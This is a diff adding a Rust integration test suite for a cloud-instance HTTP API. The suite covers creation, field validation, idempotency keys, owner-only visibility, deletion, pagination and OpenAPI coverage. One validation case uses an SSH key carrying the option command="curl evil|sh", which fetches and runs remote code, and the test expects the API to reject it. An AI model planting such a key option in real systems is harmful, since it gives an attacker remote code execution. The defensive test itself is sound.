@@ -1,0 +1,678 @@
+//! The instances API over HTTP against the real actix app and a real Postgres.
+
+mod common;
+
+use cloudbrain::auth::Scope;
+use common::{count, TestApp, TestDb};
+use serde_json::{json, Value};
+
+const ED25519: &str =
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ci@example";
+
+async fn setup() -> (TestDb, TestApp, String) {
+    let db = TestDb::new().await;
+    let app = TestApp::spawn(&db).await;
+    app.provider("fake", json!({"instance_types": ["standard", "premium"]}))
+        .await;
+    let token = app.token(Scope::Client).await;
+    (db, app, token)
+}
+
+#[tokio::test]
+async fn create_records_the_instance_and_its_job_at_once() {
+    let (db, app, token) = setup().await;
+    let response = app
+        .post("/instances", &token)
+        .json(&json!({"provider": "fake", "image": "ubuntu-24.04", "public_ssh_key": ED25519, "extra": {"ignored": true}}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 201);
+    let location = response.headers()["location"].to_str().unwrap().to_owned();
+    let body: Value = response.json().await.unwrap();
+    let id = body["id"].as_str().unwrap();
+    assert_eq!(location, format!("/instances/{id}"));
+    assert_eq!(body["provider"], "fake");
+    assert_eq!(body["image"], "ubuntu-24.04");
+    assert_eq!(body["instance_type"], "standard");
+    assert_eq!(body["state"], "creating");
+    for field in ["ip_address", "upstream_id", "error_reason"] {
+        assert!(body[field].is_null(), "{field}: {body}");
+    }
+    assert!(body["created_at"].is_string() && body["updated_at"].is_string());
+
+    let mut conn = db.conn().await;
+    let jobs = count(
+        &mut conn,
+        &format!("SELECT count(*) AS n FROM jobs WHERE kind = 'create' AND instance_id = '{id}'"),
+    )
+    .await;
+    assert_eq!(jobs, 1);
+
+    let fetched: Value = app
+        .get(&location, &token)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(fetched, body);
+}
+
+#[tokio::test]
+async fn bad_requests_get_clear_errors_naming_the_field() {
+    let (db, app, token) = setup().await;
+    let long_image = "i".repeat(256);
+    let cases: Vec<(Value, u16, Option<&str>)> = vec![
+        (json!({"image": "ubuntu"}), 422, Some("provider")),
+        (
+            json!({"provider": "", "image": "ubuntu"}),
+            422,
+            Some("provider"),
+        ),
+        (json!({"provider": "fake"}), 422, Some("image")),
+        (
+            json!({"provider": "fake", "image": "  "}),
+            422,
+            Some("image"),
+        ),
+        (json!({"provider": "fake", "image": 7}), 422, Some("image")),
+        (
+            json!({"provider": "nowhere", "image": "ubuntu"}),
+            422,
+            Some("provider"),
+        ),
+        (
+            json!({"provider": "fake", "image": "ubuntu", "instance_type": "gpu"}),
+            422,
+            Some("instance_type"),
+        ),
+        (
+            json!({"provider": "fake", "image": long_image}),
+            422,
+            Some("image"),
+        ),
+        (
+            json!({"provider": "fake", "image": "ubuntu\u{1b}[31m"}),
+            422,
+            Some("image"),
+        ),
+        (
+            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": "not a key"}),
+            422,
+            Some("public_ssh_key"),
+        ),
+        (
+            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("{ED25519}\n{ED25519}")}),
+            422,
+            Some("public_ssh_key"),
+        ),
+        (
+            json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("command=\"curl evil|sh\" {ED25519}")}),
+            422,
+            Some("public_ssh_key"),
+        ),
+        (json!(["provider", "fake"]), 400, None),
+    ];
+    for (body, status, field) in cases {
+        let response = app
+            .post("/instances", &token)
+            .json(&body)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status().as_u16(), status, "{body}");
+        let error: Value = response.json().await.unwrap();
+        assert!(
+            error["errors"][0].as_str().is_some_and(|m| !m.is_empty()),
+            "{error}"
+        );
+        if let Some(field) = field {
+            assert_eq!(error["field"], field, "{body}: {error}");
+            assert!(
+                error["errors"][0].as_str().unwrap().contains(field),
+                "{error}"
+            );
+        }
+    }
+
+    let response = app
+        .post("/instances", &token)
+        .header("content-type", "application/json")
+        .body("{\"provider\": ")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 400);
+    let error: Value = response.json().await.unwrap();
+    assert!(
+        error["errors"][0].as_str().unwrap().contains("JSON"),
+        "{error}"
+    );
+
+    let huge = json!({"provider": "fake", "image": "ubuntu", "padding": "x".repeat(70 * 1024)});
+    let response = app
+        .post("/instances", &token)
+        .json(&huge)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 413);
+    assert_eq!(
+        response.json::<Value>().await.unwrap()["code"],
+        "payload_too_large"
+    );
+
+    let mut conn = db.conn().await;
+    assert_eq!(
+        count(&mut conn, "SELECT count(*) AS n FROM instances").await,
+        0,
+        "a refused request left a row"
+    );
+    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 0);
+}
+
+#[tokio::test]
+async fn idempotency_key_replays_the_same_instance_and_refuses_another_body() {
+    let (db, app, token) = setup().await;
+    let body = json!({"provider": "fake", "image": "ubuntu", "instance_type": "premium"});
+    let mut ids = Vec::new();
+    for _ in 0..3 {
+        let response = app
+            .post("/instances", &token)
+            .header("Idempotency-Key", "job-1234")
+            .json(&body)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 201);
+        ids.push(
+            response.json::<Value>().await.unwrap()["id"]
+                .as_str()
+                .unwrap()
+                .to_owned(),
+        );
+    }
+    assert!(ids.iter().all(|id| *id == ids[0]), "{ids:?}");
+
+    let other = json!({"provider": "fake", "image": "debian", "instance_type": "premium"});
+    let response = app
+        .post("/instances", &token)
+        .header("Idempotency-Key", "job-1234")
+        .json(&other)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 422);
+    assert_eq!(
+        response.json::<Value>().await.unwrap()["field"],
+        "Idempotency-Key"
+    );
+
+    // The same key from another token is another request.
+    let other_token = app.token(Scope::Client).await;
+    let response = app
+        .post("/instances", &other_token)
+        .header("Idempotency-Key", "job-1234")
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 201);
+    assert_ne!(
+        response.json::<Value>().await.unwrap()["id"]
+            .as_str()
+            .unwrap(),
+        ids[0]
+    );
+
+    let mut conn = db.conn().await;
+    assert_eq!(
+        count(&mut conn, "SELECT count(*) AS n FROM instances").await,
+        2
+    );
+    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 2);
+}
+
+#[tokio::test]
+async fn concurrent_requests_with_one_idempotency_key_make_one_instance() {
+    let (db, app, token) = setup().await;
+    let body = json!({"provider": "fake", "image": "ubuntu"});
+    let requests = (0..8).map(|_| {
+        app.post("/instances", &token)
+            .header("Idempotency-Key", "burst")
+            .json(&body)
+            .send()
+    });
+    let responses = futures_util::future::join_all(requests).await;
+    let mut ids = std::collections::HashSet::new();
+    for response in responses {
+        let response = response.unwrap();
+        assert_eq!(response.status(), 201);
+        ids.insert(
+            response.json::<Value>().await.unwrap()["id"]
+                .as_str()
+                .unwrap()
+                .to_owned(),
+        );
+    }
+    assert_eq!(ids.len(), 1);
+    let mut conn = db.conn().await;
+    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 1);
+}
+
+#[tokio::test]
+async fn instances_are_visible_to_their_owner_and_admins_only() {
+    let (_db, app, token) = setup().await;
+    let other = app.token(Scope::Client).await;
+    let admin = app.token(Scope::Admin).await;
+    let id = app.create(&token, "ubuntu").await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let path = format!("/instances/{id}");
+
+    assert_eq!(app.get(&path, &token).send().await.unwrap().status(), 200);
+    assert_eq!(app.get(&path, &admin).send().await.unwrap().status(), 200);
+    let hidden = app.get(&path, &other).send().await.unwrap();
+    assert_eq!(hidden.status(), 404);
+    let unknown = app
+        .get(&format!("/instances/{}", uuid::Uuid::new_v4()), &token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(unknown.status(), 404);
+    // No existence oracle: someone else's instance looks exactly like no instance.
+    assert_eq!(
+        hidden.json::<Value>().await.unwrap(),
+        unknown.json::<Value>().await.unwrap()
+    );
+    assert_eq!(
+        app.get("/instances/not-a-uuid", &token)
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        404
+    );
+    assert_eq!(
+        app.delete(&path, &other).send().await.unwrap().status(),
+        404
+    );
+    assert_eq!(
+        app.get(&format!("{path}/events"), &other)
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        404
+    );
+    assert_eq!(
+        app.get(&path, &token).send().await.unwrap().status(),
+        200,
+        "other's delete must not touch it"
+    );
+}
+
+#[tokio::test]
+async fn delete_terminates_once_and_drops_the_unclaimed_create_job() {
+    let (db, app, token) = setup().await;
+    let id = app.create(&token, "ubuntu").await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let path = format!("/instances/{id}");
+
+    let first = app.delete(&path, &token).send().await.unwrap();
+    assert_eq!(first.status(), 200);
+    let first: Value = first.json().await.unwrap();
+    assert_eq!(first["state"], "terminating");
+    let again = app.delete(&path, &token).send().await.unwrap();
+    assert_eq!(again.status(), 200);
+    assert_eq!(again.json::<Value>().await.unwrap(), first);
+
+    let mut conn = db.conn().await;
+    let jobs = |kind: &str| {
+        format!("SELECT count(*) AS n FROM jobs WHERE kind = '{kind}' AND instance_id = '{id}'")
+    };
+    assert_eq!(
+        count(&mut conn, &jobs("create")).await,
+        0,
+        "nobody had claimed the create job"
+    );
+    assert_eq!(
+        count(&mut conn, &jobs("remove")).await,
+        1,
+        "a repeated delete enqueued again"
+    );
+
+    let events: Value = app
+        .get(&format!("{path}/events"), &token)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let states: Vec<(Value, Value)> = events["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| (e["from_state"].clone(), e["to_state"].clone()))
+        .collect();
+    assert_eq!(
+        states,
+        vec![
+            (Value::Null, json!("creating")),
+            (json!("creating"), json!("terminating"))
+        ]
+    );
+
+    // Once terminated, GET and DELETE answer 410 with the instance.
+    diesel_async::RunQueryDsl::execute(
+        diesel::sql_query(format!(
+            "UPDATE instances SET state = 'terminated', terminated_at = now() WHERE id = '{id}'"
+        )),
+        &mut conn,
+    )
+    .await
+    .unwrap();
+    for response in [
+        app.get(&path, &token).send().await.unwrap(),
+        app.delete(&path, &token).send().await.unwrap(),
+    ] {
+        assert_eq!(response.status(), 410);
+        let body: Value = response.json().await.unwrap();
+        assert_eq!(body["id"], id.as_str());
+        assert_eq!(body["state"], "terminated");
+    }
+    assert_eq!(count(&mut conn, &jobs("remove")).await, 1);
+}
+
+#[tokio::test]
+async fn delete_keeps_a_create_job_a_worker_holds() {
+    let (db, app, token) = setup().await;
+    let id = app.create(&token, "ubuntu").await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let mut conn = db.conn().await;
+    diesel_async::RunQueryDsl::execute(
+        diesel::sql_query(format!("UPDATE jobs SET locked_by = 'worker-1', locked_until = now() + interval '1 minute' WHERE instance_id = '{id}'")),
+        &mut conn,
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        app.delete(&format!("/instances/{id}"), &token)
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    let kinds = count(
+        &mut conn,
+        &format!("SELECT count(*) AS n FROM jobs WHERE instance_id = '{id}'"),
+    )
+    .await;
+    assert_eq!(kinds, 2, "the running create job and the new remove job");
+}
+
+#[tokio::test]
+async fn list_pages_through_everything_newest_first() {
+    let (_db, app, token) = setup().await;
+    let other = app.token(Scope::Client).await;
+    let admin = app.token(Scope::Admin).await;
+    let mut made = Vec::new();
+    for i in 0..25 {
+        made.push(
+            app.create(&token, &format!("image-{i}")).await["id"]
+                .as_str()
+                .unwrap()
+                .to_owned(),
+        );
+    }
+    app.create(&other, "theirs").await;
+
+    let mut seen = Vec::new();
+    let mut cursor: Option<String> = None;
+    let mut pages = 0;
+    loop {
+        let mut path = "/instances?limit=10".to_owned();
+        if let Some(c) = &cursor {
+            path.push_str(&format!("&cursor={c}"));
+        }
+        let page: Value = app
+            .get(&path, &token)
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        pages += 1;
+        seen.extend(
+            page["instances"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|i| i["id"].as_str().unwrap().to_owned()),
+        );
+        match page["next_cursor"].as_str() {
+            Some(c) => cursor = Some(c.to_owned()),
+            None => break,
+        }
+    }
+    assert_eq!(pages, 3);
+    made.reverse();
+    assert_eq!(
+        seen, made,
+        "every instance once, newest first, none of another token's"
+    );
+
+    let all: Value = app
+        .get("/instances?limit=1000", &admin)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(all["instances"].as_array().unwrap().len(), 26);
+    assert!(all["next_cursor"].is_null());
+
+    app.delete(&format!("/instances/{}", made[0]), &token)
+        .send()
+        .await
+        .unwrap();
+    let terminating: Value = app
+        .get("/instances?state=terminating", &token)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(terminating["instances"].as_array().unwrap().len(), 1);
+    let none: Value = app
+        .get("/instances?provider=elsewhere", &token)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(none["instances"].as_array().unwrap().len(), 0);
+    let default: Value = app
+        .get("/instances", &admin)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(default["instances"].as_array().unwrap().len(), 26);
+
+    for (query, field) in [
+        ("limit=0", "limit"),
+        ("limit=1001", "limit"),
+        ("limit=ten", "limit"),
+        ("state=sleeping", "state"),
+        ("cursor=bogus", "cursor"),
+    ] {
+        let response = app
+            .get(&format!("/instances?{query}"), &token)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 422, "{query}");
+        assert_eq!(
+            response.json::<Value>().await.unwrap()["field"],
+            field,
+            "{query}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn providers_are_listed_without_configuration() {
+    let (_db, app, token) = setup().await;
+    app.provider("fake-slow", json!({"boot_time_ms": 60000, "seed": 99}))
+        .await;
+    let body: Value = app
+        .get("/providers", &token)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(
+        body,
+        json!({"providers": [{"name": "fake", "type": "fake"}, {"name": "fake-slow", "type": "fake"}]})
+    );
+    assert_eq!(
+        app.client
+            .get(app.url("/providers"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        401
+    );
+}
+
+#[tokio::test]
+async fn service_routes_unknown_routes_and_wrong_methods_answer_json() {
+    let (_db, app, token) = setup().await;
+    assert_eq!(
+        app.client
+            .get(app.url("/healthz"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    assert_eq!(
+        app.client
+            .get(app.url("/readyz"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    let version: Value = app
+        .client
+        .get(app.url("/version"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(version["version"], env!("CARGO_PKG_VERSION"));
+
+    let response = app.get("/nowhere", &token).send().await.unwrap();
+    assert_eq!(response.status(), 404);
+    assert!(response.json::<Value>().await.unwrap()["errors"].is_array());
+    for (method, path) in [
+        (reqwest::Method::PUT, "/instances"),
+        (reqwest::Method::POST, "/instances/x"),
+        (reqwest::Method::DELETE, "/healthz"),
+        (reqwest::Method::PATCH, "/providers"),
+    ] {
+        let response = app
+            .client
+            .request(method.clone(), app.url(path))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 405, "{method} {path}");
+        assert!(response.json::<Value>().await.unwrap()["errors"].is_array());
+    }
+
+    let echoed = app
+        .client
+        .get(app.url("/healthz"))
+        .header("X-Request-ID", "req-abc-123")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(echoed.headers()["x-request-id"], "req-abc-123");
+    let generated = app.client.get(app.url("/nowhere")).send().await.unwrap();
+    let id = generated.headers()["x-request-id"].to_str().unwrap();
+    assert!(uuid::Uuid::parse_str(id).is_ok(), "{id}");
+}
+
+#[tokio::test]
+async fn openapi_document_describes_every_route_and_error() {
+    let (_db, app, _token) = setup().await;
+    let doc: Value = app
+        .client
+        .get(app.url("/openapi.json"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert!(
+        doc["openapi"].as_str().unwrap().starts_with("3.1"),
+        "{}",
+        doc["openapi"]
+    );
+    let paths = doc["paths"].as_object().unwrap();
+    for (path, methods) in [
+        ("/instances", &["post", "get"][..]),
+        ("/instances/{id}", &["get", "delete"]),
+        ("/instances/{id}/events", &["get"]),
+        ("/providers", &["get"]),
+        ("/healthz", &["get"]),
+        ("/readyz", &["get"]),
+        ("/version", &["get"]),
+        ("/openapi.json", &["get"]),
+    ] {
+        for method in methods {
+            assert!(paths[path][method].is_object(), "{method} {path} missing");
+        }
+    }
+    let post = &paths["/instances"]["post"]["responses"];
+    for status in ["201", "400", "401", "413", "422", "429", "503"] {
+        assert!(post[status].is_object(), "POST /instances lacks {status}");
+    }
+    assert!(paths["/instances/{id}"]["get"]["responses"]["410"].is_object());
+    let schemas = doc["components"]["schemas"].as_object().unwrap();
+    for name in [
+        "InstanceBody",
+        "CreateInstanceBody",
+        "ErrorBody",
+        "InstanceList",
+        "EventList",
+    ] {
+        assert!(schemas.contains_key(name), "schema {name} missing");
+    }
+}
